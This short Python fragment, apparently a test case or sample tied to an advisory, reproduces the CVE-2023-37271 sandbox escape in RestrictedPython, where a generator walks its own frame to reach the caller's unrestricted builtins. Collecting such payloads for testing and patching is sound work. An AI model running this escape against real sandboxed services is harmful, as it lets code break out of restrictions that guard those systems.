# why: a generator that reads its own frame while it runs sees the frame of its caller (CVE-2023-37271).
# source: https://github.com/zopefoundation/RestrictedPython/security/advisories/GHSA-wqc8-x2pr-7jqh
g = (g.gi_frame.f_back.f_back.f_builtins for _ in [1])
[*g]
